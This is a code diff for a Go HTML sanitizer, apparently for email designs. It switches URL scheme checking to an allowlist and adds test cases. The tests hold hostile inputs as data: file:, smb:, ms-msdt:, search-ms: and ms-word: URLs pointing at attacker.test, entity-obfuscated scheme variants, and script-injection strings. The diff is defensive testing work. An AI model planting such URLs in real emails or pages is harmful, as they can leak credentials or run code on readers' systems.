@@ -184,18 +184,25 @@ func urlScheme(u string) string {
 	return ""
 }
 
-// inertScheme reports whether a URL of scheme s (the whole URL u) runs
-// nothing when followed: not a script URL, not a data: URL of anything
-// but a raster image.
+// inertScheme reports whether a URL of scheme s (the whole URL u) is one
+// a mail client or browser follows itself: no scheme (a relative URL, a
+// merge tag), one of the web, mail, phone and chat schemes, or data: of a
+// raster image. Any other hands the URL to a program of the reader's
+// system (file:, ms-msdt:, search-ms:…) or runs script (javascript:).
 func inertScheme(s, u string) bool {
 	switch s {
-	case "javascript", "vbscript", "livescript", "mocha":
-		return false
+	case "", "http", "https", "mailto", "tel", "sms", "callto", "cid", "xmpp", "ftp", "ftps", "webcal":
+		return true
 	case "data":
-		rest := strings.ToLower(strings.TrimLeft(u[strings.IndexByte(u, ':')+1:], " \t\n\r\f"))
+		rest := strings.ToLower(strings.Map(func(r rune) rune {
+			if r <= ' ' {
+				return -1
+			}
+			return r
+		}, u[strings.IndexByte(u, ':')+1:]))
 		return strings.HasPrefix(rest, "image/") && !strings.HasPrefix(rest, "image/svg")
 	}
-	return true
+	return false
 }
 
 // scriptableStyle says why an inline style could run script or load a
@@ -307,6 +314,22 @@ var inertPayloads = []string{
 	`<div><![CDATA[</div><script>alert(1)</script>]]></div>`,
 	`<?xml version="1.0"?><script>alert(1)</script>`,
 	`<!DOCTYPE html><script>alert(1)</script>`,
+	// Schemes that hand the URL to a program of the reader's system.
+	`file://attacker.test/share/x.png`,
+	` FiLe://attacker.test/share`,
+	"fi\tle://attacker.test/share",
+	"\x01file://attacker.test/share",
+	`ms-msdt:/id PCWDiagnostic /skip force`,
+	`search-ms:query=x&crumb=location:\\attacker.test\s`,
+	`ms-officecmd:{}`,
+	`ms-word:ofe|u|https://attacker.test/x.docx`,
+	`smb://attacker.test/s`,
+	`jar:https://attacker.test/x.jar!/`,
+	`view-source:https://attacker.test/`,
+	`intent://x#Intent;scheme=http;end`,
+	`<a href="&#102;ile://attacker.test/s">x</a>`,
+	`<a href="fi&#x09;le://attacker.test/s">x</a>`,
+	`<img src="file://attacker.test/s.png">`,
 }
 
 // inertDesign is data (a design's JSON) with its html blocks and display
@@ -543,6 +566,10 @@ func TestInertViolationsCatch(t *testing.T) {
 		`<!--[if mso]><v:rect href="javascript:alert(1)"></v:rect><![endif]-->`,
 		`<!--[if mso]><img src=x onerror=alert(1)><![endif]-->`,
 		`<p>x</p><style>p{}</style>`,
+		`<a href="file://attacker.test/s">x</a>`,
+		`<a href=" Ms-Msdt:/id">x</a>`,
+		`<img src="fi&#x09;le://attacker.test/s.png">`,
+		`<!--[if mso]><v:fill src="file://attacker.test/s.png"></v:fill><![endif]-->`,
 	} {
 		parsed, err := html.Parse(strings.NewReader(doc))
 		if err != nil {
